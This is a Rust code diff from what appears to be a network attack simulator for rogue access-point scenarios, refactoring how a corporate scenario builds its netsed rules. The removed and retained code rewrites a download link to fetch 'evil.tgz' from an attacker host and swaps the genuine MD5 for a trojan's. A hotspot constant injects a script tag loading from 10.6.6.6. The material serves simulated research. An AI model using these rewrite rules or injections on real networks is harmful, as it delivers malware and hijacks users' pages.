@@ -24,7 +24,7 @@ use rogue_netstack::netfilter::SnatRule;
 use rogue_netstack::{IfIndex, Ipv4Addr};
 use rogue_phy::{MediumParams, Pos};
 use rogue_services::apps::HttpServerApp;
-use rogue_services::netsed::NetsedRule;
+use rogue_services::netsed::Netsed;
 use rogue_services::site::{download_portal_padded, make_binary, trojan_site, DownloadPortal};
 use rogue_sim::{Seed, SimDuration, SimRng, SimTime};
 use rogue_vpn::client::VpnClientConfig;
@@ -429,7 +429,7 @@ pub fn build_corp(cfg: &CorpScenarioCfg, seed: Seed) -> CorpScenario {
             corp_gateway: addrs::CORP_GW,
             target_ip: addrs::TARGET,
             netsed_port: 10101,
-            rules: paper_netsed_rules(&portal.real_md5, &trojan_md5),
+            rules: Netsed::paper_rules(addrs::EVIL, &portal.real_md5, &trojan_md5),
         };
         let (netsed, parprouted) = {
             let host = world.host_mut(gw);
@@ -483,17 +483,6 @@ pub fn build_corp(cfg: &CorpScenarioCfg, seed: Seed) -> CorpScenario {
         trojan_md5,
         vpn_psk,
     }
-}
-
-/// The paper's two netsed rules, parameterized by the genuine page.
-pub fn paper_netsed_rules(real_md5: &str, fake_md5: &str) -> Vec<NetsedRule> {
-    vec![
-        NetsedRule::new(
-            "href=file.tgz",
-            &format!("href=http://{}%2fevil.tgz", addrs::EVIL),
-        ),
-        NetsedRule::new(real_md5, fake_md5),
-    ]
 }
 
 #[cfg(test)]
@@ -634,7 +623,6 @@ pub const HOTSPOT_INJECT: &str = "<script src=http://10.6.6.6/x.js></script>";
 pub fn build_hotspot(cfg: &HotspotScenarioCfg, seed: Seed) -> HotspotScenario {
     use rogue_netstack::netfilter::DnatRule;
     use rogue_netstack::proto;
-    use rogue_services::netsed::Netsed;
     use rogue_services::site::news_site;
 
     let mut world = World::new(seed, MediumParams::default());
